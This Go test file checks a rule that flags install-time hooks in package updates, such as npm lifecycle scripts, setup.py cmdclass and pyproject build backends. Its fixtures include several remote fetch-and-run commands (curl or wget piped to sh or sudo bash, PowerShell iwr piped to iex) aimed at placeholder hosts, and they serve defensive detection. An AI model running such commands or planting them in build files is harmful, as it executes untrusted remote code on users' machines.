package review

import (
	"testing"

	"github.com/mcp-registry/updater/gitops/upstream/ranges"
)

const pkgBase = `{
  "name": "weather-mcp",
  "version": "1.0.0",
  "scripts": {
    "build": "tsc",
    "prepare": "npm run build"
  }
}
`

func TestInstallHook(t *testing.T) {
	runRuleCases(t, RuleInstallHook, []ruleCase{
		{"non-lifecycle script", newRange(modFile("package.json", pkgBase,
			"{\n  \"name\": \"weather-mcp\",\n  \"version\": \"1.0.1\",\n  \"scripts\": {\n    \"build\": \"tsc -p .\",\n    \"prepare\": \"npm run build\"\n  }\n}\n")), nil},
		{"postinstall added", newRange(modFile("package.json", pkgBase,
			"{\n  \"name\": \"weather-mcp\",\n  \"version\": \"1.0.0\",\n  \"scripts\": {\n    \"build\": \"tsc\",\n    \"postinstall\": \"node ./scripts/telemetry.js\",\n    \"prepare\": \"npm run build\"\n  }\n}\n")),
			[]expect{{sev: High, title: "npm install-time script", evidence: []string{"package.json:6"}, detail: "postinstall (added): node ./scripts/telemetry.js"}}},
		{"prepare changed", newRange(modFile("package.json", pkgBase,
			"{\n  \"name\": \"weather-mcp\",\n  \"version\": \"1.0.0\",\n  \"scripts\": {\n    \"build\": \"tsc\",\n    \"prepare\": \"npm run build && node x.js\"\n  }\n}\n")),
			[]expect{{sev: High, evidence: []string{"package.json:6"}, detail: "prepare (changed)"}}},
		{"new package.json with preinstall", newRange(addFile("pkg/package.json", "{\"scripts\":{\"preinstall\":\"sh get.sh\"}}\n")),
			[]expect{{sev: High, evidence: []string{"pkg/package.json:1"}, detail: "preinstall (added)"}}},
		{"unparsable package.json falls back to lines", newRange(modFile("package.json", "{\n", "{\n  \"install\": \"x\",\n")),
			[]expect{{sev: High, evidence: []string{"package.json:2"}, detail: "could not be parsed"}}},
		{"setup.py cmdclass", newRange(modFile("setup.py",
			"from setuptools import setup\nsetup(name='x')\n",
			"from setuptools import setup\nfrom setuptools.command.install import install\n\nclass PostInstall(install):\n    def run(self):\n        install.run(self)\n\nsetup(name='x', cmdclass={'install': PostInstall})\n")),
			[]expect{{sev: High, title: "setup.py", evidence: []string{"setup.py:2", "setup.py:4", "setup.py:8"}}}},
		{"pyproject backend changed", newRange(modFile("pyproject.toml",
			"[build-system]\nrequires = [\"hatchling\"]\nbuild-backend = \"hatchling.build\"\n",
			"[build-system]\nrequires = [\"hatchling\"]\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n")),
			[]expect{
				{sev: High, title: "build backend changed", evidence: []string{"pyproject.toml:3"}, detail: "hatchling.build → backend"},
				{sev: High, title: "in-tree build backend", evidence: []string{"pyproject.toml:4"}},
			}},
		{"pyproject hatch hook", newRange(modFile("pyproject.toml",
			"[project]\nname = \"x\"\n", "[project]\nname = \"x\"\n\n[tool.hatch.build.hooks.custom]\npath = \"hooks.py\"\n")),
			[]expect{{sev: High, evidence: []string{"pyproject.toml:4"}}}},
		{"curl pipe sh in Makefile", newRange(modFile("Makefile", "build:\n\tgo build\n", "build:\n\tcurl -fsSL https://get.tool.sh | sh\n\tgo build\n")),
			[]expect{{sev: High, title: "piped into a shell", evidence: []string{"Makefile:2"}}}},
		{"wget pipe bash in Dockerfile", newRange(modFile("Dockerfile", "FROM node:20\n", "FROM node:20\nRUN wget -qO- https://x.test/i | sudo bash\n")),
			[]expect{{sev: High, evidence: []string{"Dockerfile:2"}}}},
		{"bash process substitution in a script", newRange(addFile("scripts/install.sh", "#!/bin/sh\nbash <(curl -s https://x.test/i)\n")),
			[]expect{{sev: High, evidence: []string{"scripts/install.sh:2"}}}},
		{"powershell iwr iex", newRange(addFile("install.ps1", "iwr https://x.test/i.ps1 | iex\n")),
			[]expect{{sev: High, evidence: []string{"install.ps1:1"}}}},
		{"curl pipe sh in a README is documentation", newRange(addFile("README.md", "curl -fsSL https://x.test/i | sh\n")), nil},
		{"curl to a file is not piped", newRange(modFile("Makefile", "a:\n", "a:\n\tcurl -o tool.tgz https://x.test/t.tgz\n")), nil},
		{"moved line is not new", newRange(modFile("Makefile", "a:\n\tcurl https://x.test | sh\nb:\n", "b:\na:\n\tcurl https://x.test | sh\n")), nil},
		{"outside the directory, not a build input", withDirectory(newRange(addFile("tools/other/install.sh", "curl https://x.test | sh\n")), "src/weather"),
			[]expect{{sev: Medium}}},
		{"root Makefile is a build input", withDirectory(newRange(addFile("Makefile", "a:\n\tcurl https://x.test | sh\n")), "src/weather"),
			[]expect{{sev: High}}},
		{"deleted file", newRange(ranges.FileChange{Path: "setup.py", Status: ranges.FileDeleted}), nil},
	})
}
